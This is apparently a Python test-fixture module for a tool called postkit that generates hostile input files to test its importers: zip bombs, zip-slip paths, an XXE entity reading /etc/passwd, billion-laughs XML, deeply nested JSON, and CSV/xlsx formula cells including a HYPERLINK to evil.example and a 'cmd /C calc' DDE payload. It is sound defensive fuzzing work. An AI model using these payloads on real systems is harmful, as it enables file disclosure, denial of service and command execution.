"""Hostile files, as a stranger's e-mail or a clumsy user would hand them to postkit.

`hostile_contents()` gives each kind of file as bytes under a short name; the fault tests write
each one under the suffix an importer expects (a renamed file is part of the attack) and run the
importer on it. The kinds: empty, random bytes, truncated files, renamed binaries, zip bombs
(honest and lying headers), zip-slip names, XXE and billion laughs (in XML and inside .xlsx
parts), deeply nested and huge-number JSON, UTF-16 CSV, formula cells, lying manifests and
receipts, and a workbook whose one far-away cell makes readers fill in a billion blank rows.
Found later by mutating valid files at random: a zip version from the future, a directory
reaching before the file, parts declaring encodings Python has no codec for, a duration no
timedelta holds, and JSON with half a character (a lone surrogate escape).

Run as a script to write them into a folder: `python -m tests.faults.hostile_files DIR`.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

_SEED = 13
_BOMB_BYTES = 300 << 20  # what a zip bomb member inflates to: past every limit postkit sets
_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(64))
_ELF = b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x00" * 512
_EXE = b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00" + bytes(400)
_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

_XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<r>&xxe;</r>\n"
)
_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'.encode()
        for n in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>\n"
)

_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_SHEET_NS}" xmlns:r="{_REL_NS}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _sheet(rows: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{_SHEET_NS}">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


def _inline_row(number: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for index, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def _xlsx(sheet: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal, valid .xlsx package around one worksheet part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _risk_table() -> bytes:
    return _xlsx(
        _sheet(_inline_row(1, ["code", "level", "note"]) + _inline_row(2, ["KE", "high", ""]))
    )


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """`size` zero bytes deflated (raw, as zip stores them), and their CRC-32."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    parts, crc = [], 0
    for _ in range(size // len(block)):
        parts.append(compressor.compress(block))
        crc = zlib.crc32(block, crc)
    parts.append(compressor.flush())
    return b"".join(parts), crc


def _zip_with_raw_member(
    members: dict[str, bytes], bomb_name: str, declared_size: int | None = None
) -> bytes:
    """A zip whose member `bomb_name` inflates to 300 MB of zeros; its header may lie."""
    packed, crc = _bomb()
    size = _BOMB_BYTES if declared_size is None else declared_size
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    body = buffer.getvalue()
    # Append the bomb by hand: zipfile would have to inflate it to write it.
    end = body.rindex(b"PK\x05\x06")
    (_sig, _disk, _cd_disk, _n_disk, count, cd_size, cd_offset, _comment) = struct.unpack(
        "<IHHHHIIH", body[end : end + 22]
    )
    local_offset = cd_offset
    name = bomb_name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(packed), size, len(name), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0x21,
        crc,
        len(packed),
        size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        local_offset,
    )
    head = body[:cd_offset] + local + name + packed
    directory = body[cd_offset : cd_offset + cd_size] + central + name
    tail = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, len(directory), len(head), 0
    )
    return head + directory + tail


_BOMB_CACHE: list[tuple[bytes, int]] = []


def _bomb() -> tuple[bytes, int]:
    if not _BOMB_CACHE:
        _BOMB_CACHE.append(_deflated_zeros(_BOMB_BYTES))
    return _BOMB_CACHE[0]


def _xlsx_parts() -> dict[str, bytes]:
    return {
        "[Content_Types].xml": _CONTENT_TYPES.encode(),
        "_rels/.rels": _ROOT_RELS.encode(),
        "xl/workbook.xml": _WORKBOOK.encode(),
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS.encode(),
    }


def _postkit(manifest: object, members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        text = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
        archive.writestr("manifest.json", text)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _manifest(members: dict[str, bytes], **changes: object) -> dict[str, object]:
    manifest: dict[str, object] = {
        "format": "postkit-practices",
        "format_version": 1,
        "exporting_post": "Embassy Elsewhere",
        "exported_at": "2026-03-01T10:00:00+00:00",
        "members": {name: hashlib.sha256(data).hexdigest() for name, data in members.items()},
    }
    manifest.update(changes)
    return manifest


def _receipt(**changes: object) -> dict[str, object]:
    receipt: dict[str, object] = {
        "format": "postkit-survey-receipt/1",
        "issued_at": "2026-03-15T10:04:05Z",
        "post": "Embassy Testland",
        "files": [],
        "sha256": "0" * 64,
    }
    receipt.update(changes)
    return receipt


def _deep(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def _zip_slip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in _xlsx_parts().items():
            archive.writestr(name, data)
        archive.writestr("xl/worksheets/sheet1.xml", _sheet(""))
        archive.writestr("../../../../tmp/postkit-zip-slip.txt", b"escaped")
        archive.writestr("/tmp/postkit-zip-slip-absolute.txt", b"escaped")
    return buffer.getvalue()


def _postkit_slip() -> bytes:
    practices = b"[]"
    evil = {"../../postkit-zip-slip.txt": b"escaped", "practices.json": practices}
    return _postkit(_manifest(evil), evil)


def _lying_manifest() -> bytes:
    practices = b"[]"
    manifest = _manifest({"practices.json": b"something else"})
    return _postkit(manifest, {"practices.json": practices})


def _manifest_of_missing_members() -> bytes:
    members = {"practices.json": b"[]", "attachments/" + "a" * 64 + "/x.pdf": b"gone"}
    return _postkit(_manifest(members), {"practices.json": b"[]"})


def _lying_xlsx_sizes() -> bytes:
    """An .xlsx whose worksheet header says 200 bytes and inflates to 300 MB."""
    return _zip_with_raw_member(_xlsx_parts(), "xl/worksheets/sheet1.xml", declared_size=200)


def _sparse_cells() -> bytes:
    """Two cells: A1 and XFD1000000000; readers fill the blank area in between."""
    rows = _inline_row(1, ["code", "level", "note"]) + (
        '<row r="1000000000"><c r="XFD1000000000" t="inlineStr"><is><t>x</t></is></c></row>'
    )
    return _xlsx(_sheet(rows))


def _far_cell_written_otherwise() -> bytes:
    """The far cell of `_sparse_cells` as readers also read it: on a prefixed cell, its
    address in single quotes and lower case (calamine reads each; a guard reading only
    ` r="` on `<c` let it through, and calamine then aborted the process)."""
    rows = _inline_row(1, ["code", "level", "note"]) + (
        f"<row r='1048576'><x:c xmlns:x=\"{_SHEET_NS}\" r='xfd1048576' t=\"inlineStr\">"
        "<x:is><x:t>x</x:t></x:is></x:c></row>"
    )
    return _xlsx(_sheet(rows))


def _future_zip_version() -> bytes:
    """A small, honest workbook whose central directory says a zip version of 7.0 is needed
    to unpack it: Python's zipfile raises NotImplementedError on it, which an importer
    catching only BadZipFile let through (found by mutating workbooks at random)."""
    data = bytearray(_xlsx(_sheet(_inline_row(1, ["code", "level", "note"]))))
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) >= 0:
        data[start + 6 : start + 8] = (70).to_bytes(2, "little")  # version needed to extract
        start += 4
    return bytes(data)


def _huge_duration_cell() -> bytes:
    """An honest-looking table whose third row holds 1e20 in a duration format: calamine
    gives such a cell as a timedelta, which raises OverflowError (found by mutating files
    at random: it crashed every importer that reads cells)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["code", "level", "note"])
    sheet.append(["KE", "high", ""])
    sheet["A3"] = 1e20
    sheet["A3"].number_format = "[h]:mm:ss"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _declaring_encoding(part: str, encoding: str) -> bytes:
    """A small workbook whose part `part` declares `encoding`: expat asks Python for the
    codec, whose lookup raises LookupError or ValueError (found by mutating forms)."""
    parts = _xlsx_parts()
    parts["xl/worksheets/sheet1.xml"] = _sheet(_inline_row(1, ["code", "level", "note"]))
    body = parts[part].split(b"?>", 1)[-1] if parts[part].startswith(b"<?xml") else parts[part]
    parts[part] = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + body
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    """A zip of `parts` (name -> content), deflated, in their order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _shifted_zip() -> bytes:
    """A workbook with 38 bytes cut out of its first part, one no reader reads: every offset
    in the directory now lands on its part again (zipfile counts the 38 bytes as a prefix),
    but the first part's lands 38 bytes before the file, which zipfile seeks to when it
    opens it (ValueError: negative seek value, found by mutating the Dutch list's file)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("docProps/app.xml", b"<Properties>" + b" " * 64 + b"</Properties>")
        for name, data in _xlsx_parts().items():
            archive.writestr(name, data)
        archive.writestr("xl/worksheets/sheet1.xml", _sheet(_inline_row(1, ["code", "level"])))
    data = bytearray(buffer.getvalue())
    name_length, extra_length = struct.unpack_from("<HH", data, 26)  # the first local header
    start = 30 + name_length + extra_length
    del data[start : start + 38]
    return bytes(data)


def _blank_rows() -> bytes:
    """A valid, small workbook with a billion blank rows after its header."""
    rows = _inline_row(1, ["code", "level", "note"]) + '<row r="1000000000"/>'
    return _xlsx(_sheet(rows))


def _formula_cells_xlsx() -> bytes:
    row = (
        '<row r="1"><c r="A1"><f>HYPERLINK("http://evil.example/?"&amp;A2,"x")</f></c>'
        '<c r="B1"><f>cmd|\' /C calc\'!A0</f></c><c r="C1" t="inlineStr"><is><t>=1+1</t></is></c>'
        "</row>"
    )
    return _xlsx(_sheet(row))


def _dtd_in_sheet(doctype: bytes) -> bytes:
    prolog = doctype.split(b"\n")[1].decode()
    return _xlsx(_sheet(_inline_row(1, ["&xxe;"]), prolog=prolog))


def _sqlite_database() -> bytes:
    import sqlite3
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "other.sqlite3"
        connection = sqlite3.connect(path)
        connection.execute("CREATE TABLE secrets (id INTEGER, value TEXT)")
        connection.execute("INSERT INTO secrets VALUES (1, 'not a postkit database')")
        connection.commit()
        connection.close()
        return path.read_bytes()


def hostile_contents() -> dict[str, Callable[[], bytes]]:
    """Each kind of hostile file, made on demand (the bombs take a second to make)."""
    rng = random.Random(_SEED)
    risk = _risk_table()
    csv_rows = "id,schema,name\nx1,Person,Jan Jansen\n"
    return {
        "empty": lambda: b"",
        "random-bytes": lambda: bytes(rng.getrandbits(8) for _ in range(65536)),
        "nul-bytes": lambda: bytes(1 << 20),
        "truncated-xlsx": lambda: risk[: len(risk) // 2],
        "truncated-postkit": lambda: _postkit_slip()[:200],
        "truncated-json": lambda: json.dumps(_receipt()).encode()[:40],
        "renamed-png": lambda: _PNG,
        "renamed-elf": lambda: _ELF,
        "renamed-exe": lambda: _EXE,
        "renamed-pdf": lambda: _PDF,
        "renamed-sqlite": _sqlite_database,
        "zip-bomb-xlsx": lambda: _zip_with_raw_member(_xlsx_parts(), "xl/worksheets/sheet1.xml"),
        "zip-bomb-lying-header": _lying_xlsx_sizes,
        "zip-bomb-postkit": lambda: _zip_with_raw_member(
            {"manifest.json": json.dumps(_manifest({})).encode()}, "practices.json"
        ),
        "zip-slip-xlsx": _zip_slip,
        "zip-slip-postkit": _postkit_slip,
        "xxe-xml": lambda: _XXE,
        "billion-laughs-xml": lambda: _LAUGHS,
        "xxe-in-xlsx": lambda: _dtd_in_sheet(_XXE),
        "billion-laughs-in-xlsx": lambda: _dtd_in_sheet(_LAUGHS),
        "sparse-cells-xlsx": _sparse_cells,
        "far-cell-written-otherwise-xlsx": _far_cell_written_otherwise,
        "billion-blank-rows-xlsx": _blank_rows,
        "zip-version-from-the-future-xlsx": _future_zip_version,
        "huge-duration-cell-xlsx": _huge_duration_cell,
        "shifted-zip-xlsx": _shifted_zip,
        "unknown-encoding-xml": lambda: b'<?xml version="1.0" encoding="rot13"?>\n<export/>\n',
        "rot13-workbook-xlsx": lambda: _declaring_encoding("xl/workbook.xml", "rot13"),
        "utf7-content-types-xlsx": lambda: _declaring_encoding("[Content_Types].xml", "utf-7"),
        "unknown-encoding-sheet-xlsx": lambda: _declaring_encoding(
            "xl/worksheets/sheet1.xml", "no-such-encoding"
        ),
        # Half a character (a lone surrogate escape): valid JSON, and no text a database or
        # file can hold; a receipt and a practices file carrying one passed every check.
        "lone-surrogate-json": lambda: json.dumps(_receipt(post="Embassy \ud800")).encode(),
        "lone-surrogate-postkit": lambda: _postkit(
            _manifest({"practices.json": b"[]"}, exporting_post="\udc00 Embassy"),
            {"practices.json": b"[]"},
        ),
        "deep-json": lambda: _deep(10_000),
        "deep-receipt": lambda: (
            json.dumps(_receipt()).encode()[:-1] + b', "x": ' + _deep(10_000) + b"}"
        ),
        "huge-number-json": lambda: (
            b'{"format": "postkit-survey-receipt/1", "n": ' + b"9" * 5000 + b"}"
        ),
        "deep-manifest-postkit": lambda: _postkit(_deep(10_000), {}),
        "huge-number-manifest-postkit": lambda: _postkit(
            b'{"format": "postkit-practices", "format_version": ' + b"1" * 5000 + b"}", {}
        ),
        "utf16-le-csv": lambda: ("\ufeff" + csv_rows).encode("utf-16-le"),
        "utf16-be-csv": lambda: ("\ufeff" + csv_rows).encode("utf-16-be"),
        "formula-cells-csv": lambda: (
            b'=HYPERLINK("http://evil.example","x"),+cmd|\' /C calc\'!A0,@SUM(1+1)\n-2+3,=1+1,\tx\n'
        ),
        "formula-cells-xlsx": _formula_cells_xlsx,
        "lying-manifest-postkit": _lying_manifest,
        "manifest-lists-missing-members": _manifest_of_missing_members,
        "lying-receipt": lambda: json.dumps(
            _receipt(files=[{"file_name": "x.xlsx", "status": "accepted"}])
        ).encode(),
        "newer-format-postkit": lambda: _postkit(
            _manifest({"practices.json": b"[]"}, format_version=99), {"practices.json": b"[]"}
        ),
    }


# Files too large to hold in memory: written sparse (no disk used), read as zeros.
OVERSIZED = {"oversized-400-mb": 400 << 20}


def write_oversized(path: Path, name: str) -> Path:
    with path.open("wb") as file:
        file.truncate(OVERSIZED[name])
    return path


def write_all(folder: Path, suffix: str = "") -> dict[str, Path]:
    """Write every hostile file into `folder` (with `suffix`, else a neutral `.bin`)."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, make in hostile_contents().items():
        path = folder / f"{name}{suffix or '.bin'}"
        path.write_bytes(make())
        written[name] = path
    for name in OVERSIZED:
        written[name] = write_oversized(folder / f"{name}{suffix or '.bin'}", name)
    return written


if __name__ == "__main__":
    for name, path in write_all(Path(sys.argv[1])).items():
        print(f"{path}\t{path.stat().st_size}\t{name}")
